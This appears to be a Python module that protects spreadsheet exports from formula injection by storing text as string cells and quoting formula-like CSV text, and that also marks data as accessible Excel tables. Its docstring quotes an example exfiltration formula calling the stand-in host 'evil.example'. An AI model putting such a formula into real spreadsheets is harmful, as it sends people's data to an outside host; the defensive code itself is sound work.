"""Text that leaves Summit in a spreadsheet is shown, never run (issue 14).

A comment, a progress note or a team name is typed by a person, and a spreadsheet opened by
someone else runs a cell that starts like a formula (`=HYPERLINK("http://evil.example/?"&A2,…)`
sends the sheet's figures away). The two file kinds need two defences:

- .xlsx has cell types: openpyxl turns any text beginning with `=` into a formula (`<f>`), so
  `text_cell` and `put` store text as an explicit string cell (an inline string, no `<f>`).
  Nothing is added to the text, so the upload of a returns workbook reads back what was written.
- CSV has no cell types: `csv_text` follows OWASP's CSV-injection advice and puts a single quote
  before text that begins with `=`, `+`, `-`, `@`, a tab or a carriage return, and keeps a
  carriage return inside its cell.

Numbers are never touched: only `str` values are, so a negative number stays a number. Callers
pass text columns only where a number is already written as text (CSV). openpyxl is loaded
only when a workbook is written, as the exports that use this module do.
"""

from __future__ import annotations

import re
import warnings
from collections.abc import Iterable
from typing import TYPE_CHECKING, Any

if TYPE_CHECKING:
    from openpyxl.cell import Cell

FORMULA_LEADS = ("=", "+", "-", "@", "\t", "\r")


def csv_text(value: Any) -> Any:
    """A CSV cell that a spreadsheet shows as text: text starting like a formula gets a `'`.

    A carriage return becomes a line feed: Python 3.11's csv writer quotes only the characters
    of its line terminator (a line feed in Summit's exports), so a bare carriage return went out
    unquoted and started a new row, whose first cell could be a formula no quote had guarded.
    """
    if not isinstance(value, str):
        return value
    if value.startswith(FORMULA_LEADS):
        value = "'" + value
    return value.replace("\r\n", "\n").replace("\r", "\n")


def put(cell: Cell, value: Any) -> Cell:
    """Write `value` into an openpyxl cell; text as text (data type "s"), never as a formula."""
    cell.value = value
    if isinstance(value, str):
        # openpyxl types "=…" as a formula and "#N/A"-like text as an error; the written text
        # is the same either way, only its type changes.
        cell.data_type = "s"
    return cell


def text_cell(sheet: Any, value: Any) -> Any:
    """A value for `sheet.append`: text as a text cell of `sheet`, anything else unchanged."""
    if isinstance(value, str):
        from openpyxl.cell import WriteOnlyCell  # noqa: PLC0415 (heavy; only for a workbook)

        return put(WriteOnlyCell(sheet), value)
    return value


def row(sheet: Any, values: Iterable[Any]) -> list[Any]:
    """A row for `sheet.append` (normal or write-only) whose text cells are text, not formulas."""
    return [text_cell(sheet, value) for value in values]


_TABLE_NAME = re.compile(r"[^A-Za-z0-9_]")


def define_table(sheet: Any, *, header_row: int, headers: list[Any], rows: int) -> bool:
    """Mark `rows` data rows under the header row `headers` (at `header_row`, from column A) as
    an Excel table (issue 22): assistive technology then reads each cell with its column header.
    Only where it can be one: at least one row, and headers that are distinct, non-empty text.
    Works for a write-only sheet too (the headers are given, not read back). Returns whether it
    did."""
    from openpyxl.utils import get_column_letter  # noqa: PLC0415 (heavy; only for a workbook)
    from openpyxl.worksheet.filters import AutoFilter  # noqa: PLC0415 (as above)
    from openpyxl.worksheet.table import (  # noqa: PLC0415 (as above)
        Table,
        TableColumn,
        TableStyleInfo,
    )

    texts = [h.strip().lower() for h in headers if isinstance(h, str) and h.strip()]
    if rows < 1 or not headers or len(texts) != len(headers) or len(set(texts)) != len(texts):
        return False
    taken = {name for each in sheet.parent.worksheets for name in each.tables}
    base = "T_" + _TABLE_NAME.sub("_", sheet.title)
    name, number = base, 2
    while name in taken:
        name, number = f"{base}_{number}", number + 1
    ref = f"A{header_row}:{get_column_letter(len(headers))}{header_row + rows}"
    table = Table(
        displayName=name,
        ref=ref,
        autoFilter=AutoFilter(ref=ref),
        tableColumns=[
            TableColumn(id=index, name=str(header)) for index, header in enumerate(headers, 1)
        ],
    )
    # No banding or colour of its own: the sheet keeps its bold header and number formats.
    table.tableStyleInfo = TableStyleInfo(name="TableStyleLight1", showRowStripes=False)
    with warnings.catch_warnings():
        # Said of any write-only sheet; the columns are given above, as it asks.
        warnings.filterwarnings("ignore", "In write-only mode you must add table columns")
        sheet.add_table(table)
    return True
